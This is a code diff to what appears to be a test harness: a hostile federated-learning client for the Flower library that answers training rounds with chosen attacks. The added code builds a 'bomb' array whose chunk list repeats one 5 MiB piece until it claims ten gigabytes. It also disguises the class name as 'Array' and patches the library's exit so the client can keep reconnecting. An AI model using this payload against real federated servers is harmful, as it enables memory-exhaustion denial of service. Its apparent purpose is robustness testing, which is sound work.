@@ -17,7 +17,7 @@ import numpy as np
 from cryptography.hazmat.primitives.serialization import load_ssh_private_key
 from flwr.app import Array, ArrayRecord, ConfigRecord, Error, Metadata, RecordDict
 from flwr.app.message import make_message
-from flwr.client.grpc_rere_client.connection import grpc_request_response
+from flwr.client.grpc_rere_client import connection
 from flwr.proto.message_pb2 import ObjectTree
 from flwr.supercore.inflatable.inflatable_object import get_all_nested_objects, get_object_tree, iterate_object_tree
 from flwr.supercore.inflatable.inflatable_utils import inflate_object_from_contents
@@ -157,6 +157,12 @@ class HostileSite:
 
         self.deliver(self.message(asked, self.packet(asked, change)))
 
+    def bomb(self, asked) -> None:
+        """One piece of 5 MiB, which stands in an array two thousand times."""
+        content = self.packet(asked, lambda header, tensors: tensors.clear())
+        content["tensors"] = ArrayRecord({"w": Bomb("float32", (TEN_GB // 4,), "raw", bytes(PIECE_BYTES))})
+        self.deliver(self.message(asked, content))
+
     def ten_gb(self, asked) -> None:
         """Ten gigabytes in proper pieces, then as large as one call may be, then without a session."""
         filling, sent = b"x" * (PIECE_BYTES - 8), 0
@@ -186,6 +192,20 @@ class HostileSite:
             except Exception as error:
                 said.append(type(error).__name__)
         self.note(sent=sent, wanted=len(wanted), said=said)
+
+
+class Bomb(Array):
+    """Flower's array of one piece, whose list of pieces names it again and again."""
+
+    def deflate(self) -> bytes:
+        head, body = super().deflate().split(b"\x00", 1)
+        fields = {**json.loads(body), "arraychunk_ids": [0] * (TEN_GB // PIECE_BYTES)}
+        body = json.dumps(fields).encode()
+        kind, pieces, _ = head.split(b" ")
+        return b"%s %s %d\x00%s" % (kind, pieces, len(body), body)
+
+
+Bomb.__qualname__ = "Array"
 
 
 def set_all(value: float):
@@ -219,21 +239,33 @@ CHANGES = {
 
 
 def main(folder: Path, address: str, tricks: list[str]) -> None:
+    connection.flwr_exit = sys.exit  # Flower's own ends the process some seconds later, whoever caught it
     key = load_ssh_private_key((folder / "keys" / "site_key").read_bytes(), None)
-    with grpc_request_response(
-        address, False, make_simple_grpc_retry_invoker(), root_certificates=(folder / "keys" / "ca.crt").read_bytes(),
-        authentication_keys=(key, key.public_key()),
-    ) as link:  # fmt: skip
-        site = HostileSite(folder, link)
-        while True:
-            if (asked := site.question()) is None:
-                time.sleep(0.5)
-            elif asked.metadata.message_type == "train":
-                number = asked.content["header"]["round"]
-                site.note(round=number, trick=tricks[number - 1])
-                site.play(tricks[number - 1], asked)
-            else:
-                site.approve(asked)
+    while True:
+        try:
+            with connection.grpc_request_response(
+                address,
+                False,
+                make_simple_grpc_retry_invoker(),
+                root_certificates=(folder / "keys" / "ca.crt").read_bytes(),
+                authentication_keys=(key, key.public_key()),
+            ) as link:
+                serve(HostileSite(folder, link), tricks)
+        except SystemExit:  # not let in yet
+            time.sleep(1)
+
+
+def serve(site: HostileSite, tricks: list[str]) -> None:
+    """Answer whatever is asked."""
+    while True:
+        if (asked := site.question()) is None:
+            time.sleep(0.5)
+        elif asked.metadata.message_type == "train":
+            number = asked.content["header"]["round"]
+            site.note(round=number, trick=tricks[number - 1])
+            site.play(tricks[number - 1], asked)
+        else:
+            site.approve(asked)
 
 
 if __name__ == "__main__":
